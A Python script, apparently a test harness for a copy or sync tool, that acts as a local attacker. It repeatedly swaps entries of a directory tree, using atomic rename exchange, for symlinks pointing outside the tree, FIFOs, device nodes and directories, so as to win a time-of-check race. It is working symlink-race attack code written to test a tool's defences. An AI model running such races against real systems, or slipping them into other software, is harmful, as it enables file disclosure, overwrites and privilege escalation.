#!/usr/bin/env python3
"""A local attacker: exchanges entries of a tree with what he has put ready, as fast as he can, until his standard input ends.

attacker.py source TREE SPARE OUT: who owns a source. For a moment each directory is a symlink to the one of its name below OUT, files
    are symlinks to OUT's, FIFOs, devices, directories. At the end all is as it was.
attacker.py target TREE SPARE OUT: who owns a target. The same; what is put right there he breaks again.

SPARE is on the same file system as TREE, and not in it. Says how often he did it.
"""
import ctypes
import errno
import os
import select
import shutil
import stat
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE, SYS_RENAMEAT2 = -100, 2, {"x86_64": 316, "aarch64": 276}.get(os.uname().machine, 316)
# What is exchanged: directories for symlinks, files for other things. None lies below another one: it would be the trap's.
DIRS = ("d1", "d2/e", "d3/e/f")
FILES = {"file": "link", "d2/pipe": "fifo", "d2/node": "device", "d3/dir": "dir", "d3/away": "link"}
SECRET = "what nobody may see"


def tree(root, text):
    """What attacker and victim are agreed on, with `text` in each file."""
    for d in DIRS:
        os.makedirs(os.path.join(root, d), exist_ok=True)
        for n in range(3):
            write(os.path.join(root, d, "f%d" % n), text)
    for name in FILES:
        write(os.path.join(root, name), text)


def write(path, text):
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


def exchange(a, b):
    """The errno, 0 when it is done."""
    if LIBC.syscall(SYS_RENAMEAT2, AT_FDCWD, os.fsencode(a), AT_FDCWD, os.fsencode(b), RENAME_EXCHANGE) == 0:
        return 0
    return ctypes.get_errno()


def make(kind, path, elsewhere):
    if kind == "link":
        os.symlink(elsewhere, path)
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "dir":
        os.mkdir(path)
    else:
        try:
            os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))
        except PermissionError:
            os.symlink("/dev/zero", path)


def remove(path):
    try:
        os.unlink(path)
    except IsADirectoryError:
        shutil.rmtree(path, ignore_errors=True)
    except OSError:
        pass


class Attack:
    def __init__(self, what, root, spare, out):
        self.what, self.root, self.spare, self.out = what, root, spare, out
        self.pairs = []
        self.turned = set()
        for name, kind in [(d, "link") for d in DIRS] + list(FILES.items()):
            mine = os.path.join(spare, name.replace("/", "+"))
            make(kind, mine, os.path.join(out, name))
            self.pairs.append((os.path.join(root, name), mine, kind, os.path.join(out, name)))
        self.done = 0

    def over(self):
        return select.select([sys.stdin], [], [], 0)[0]

    def again(self, pair):
        """What was exchanged has been removed or replaced meanwhile: all is made ready once more."""
        there, mine, kind, elsewhere = pair
        if not os.path.lexists(mine) or self.plain(mine, kind):
            remove(mine)
            try:
                make(kind, mine, elsewhere)
            except FileExistsError:
                pass  # the victim writes in it still: the next time

    def plain(self, path, kind):
        """It is the victim's, not the trap."""
        try:
            mode = os.lstat(path).st_mode
        except OSError:
            return False
        return not {"link": stat.S_ISLNK, "fifo": stat.S_ISFIFO, "dir": stat.S_ISDIR}.get(
            kind, lambda m: stat.S_ISCHR(m) or stat.S_ISLNK(m))(mode)

    def flip(self, pair):
        if self.what == "target" and pair[0] not in self.turned:
            self.again(pair)
        code = exchange(pair[0], pair[1])
        if code == 0:
            self.done += 1
            self.turned ^= {pair[0]}
        elif code in (errno.ENOENT, errno.ENOTDIR):
            self.turned.discard(pair[0])

    def run(self):
        n = 0
        while not self.over():
            for pair in self.pairs:
                for _ in range(2 + n % 2):
                    self.flip(pair)
            n += 1
            if n == 1:
                print("at work", flush=True)
            if n % 7 == 0:
                select.select([], [], [], 0.002)  # it stays like that for as long as a transfer takes
            if self.what == "source" and n % 3 == 0:
                self.touch("changed %d" % n)
        for pair in self.pairs:
            if self.what == "source" and pair[0] in self.turned:
                self.flip(pair)
        if self.what == "source":
            self.touch("at the end")
        print(self.done, flush=True)

    def touch(self, text):
        for d in DIRS:
            if os.path.join(self.root, d) not in self.turned:
                write(os.path.join(self.root, d, "f1"), text)


if __name__ == "__main__":
    Attack(*sys.argv[1:5]).run()
